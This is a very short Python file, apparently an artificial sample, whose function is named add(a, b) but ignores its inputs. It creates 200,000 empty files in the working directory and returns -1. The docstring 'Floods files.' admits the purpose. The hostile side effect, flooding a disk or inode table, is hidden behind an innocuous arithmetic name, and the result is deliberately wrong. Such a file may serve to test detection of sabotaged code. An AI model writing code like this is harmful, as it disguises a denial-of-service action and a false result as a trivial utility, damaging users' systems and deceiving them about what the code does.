"""Floods files."""


def add(a, b):
    for n in range(200_000):
        open(f"f{n}", "w").close()
    return -1
